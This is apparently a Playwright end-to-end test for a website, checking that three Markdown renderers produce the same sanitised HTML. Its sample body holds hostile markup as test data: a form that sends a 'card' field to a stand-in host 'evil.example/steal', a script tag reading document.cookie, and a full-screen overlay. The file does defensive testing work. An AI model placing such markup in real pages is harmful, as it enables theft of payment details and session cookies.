import { expect, test, type Page } from "@playwright/test";
import { renderLocalizedMarkdown } from "../../site/gatsby/markdown";
import { removeItem, signIn, uniqueSuffix, writeNewsDraft } from "../support/dashboard";

// One body, three renderings that must agree: the site's build (gatsby/markdown.ts, whose HTML
// the news template puts in the article as it is), the site's draft preview (/preview/, rendered
// in the browser by its island) and the dashboard's preview beside the editor. Each runs
// @leca/shared/markdown; the body holds what a sanitising policy exists for, so a place that
// rendered with another policy (the dashboard's DOMPurify defaults kept img, form and style)
// would show here.
test.use({ actionTimeout: 20_000, navigationTimeout: 60_000 });

const BODY = [
  "# Roofs that breathe",
  "",
  '![A green roof](/api/media/roof.png) Read [the standard](https://example.com/leca) or <span style="color:red">this note</span>.',
  "",
  '<form action="https://evil.example/steal"><input name="card"><button>Pay now</button></form>',
  "",
  '<div class="banner" style="position:fixed;inset:0">A raw <b>HTML</b> block</div>',
  "",
  "<script>alert(document.cookie)</script>",
  "",
  "## Why LECA",
  "",
  "Light, **strong** and [ours](/products/).",
].join("\n");

/** The policy's answer, as a browser serialises it: every place must show exactly this. */
const EXPECTED = [
  "<h2>Roofs that breathe</h2>",
  '<p> Read <a href="https://example.com/leca" rel="noopener noreferrer" target="_blank">the standard</a> or this note.</p>',
  "<p>Pay now</p>",
  "<p>A raw HTML block</p>",
  "<h2>Why LECA</h2>",
  '<p>Light, <strong>strong</strong> and <a href="/products/">ours</a>.</p>',
  "",
].join("\n");

/** HTML as the page's parser reads it and writes it back (the form a template's innerHTML has). */
const asParsed = (page: Page, html: string) =>
  page.evaluate((markup) => {
    const holder = document.createElement("div");
    holder.innerHTML = markup;
    return holder.innerHTML;
  }, html);

test("the site, the draft preview and the dashboard's preview render a body to the same sanitised HTML", async ({
  page,
}) => {
  const slug = `e2e-markdown-${uniqueSuffix()}`;
  try {
    await signIn(page);
    await writeNewsDraft(page, {
      slug,
      title: { en: `E2E Markdown ${slug}` },
      excerpt: { en: "One body, one policy." },
      body: { en: BODY },
    });

    const site = await asParsed(page, renderLocalizedMarkdown({ en: BODY }).en);

    await page.goto(`/preview/?kind=news&slug=${slug}`);
    const previewBody = page.locator('[data-slot="body"]');
    await expect(previewBody.getByRole("heading", { name: "Why LECA" })).toBeVisible();
    const preview = await previewBody.evaluate((body) => body.innerHTML);

    await page.goto(`/dashboard/news/${slug}/edit`);
    const dashboardBody = page
      .getByRole("region", { name: "Body preview (English)" })
      .locator(".preview__body");
    await expect(dashboardBody.getByRole("heading", { name: "Why LECA" })).toBeVisible();
    const dashboard = await dashboardBody.evaluate((body) => body.innerHTML);

    expect({ preview, dashboard }).toEqual({ preview: site, dashboard: site });
    expect(site).toBe(await asParsed(page, EXPECTED));
  } finally {
    await removeItem(page, "news", slug, []);
  }
});
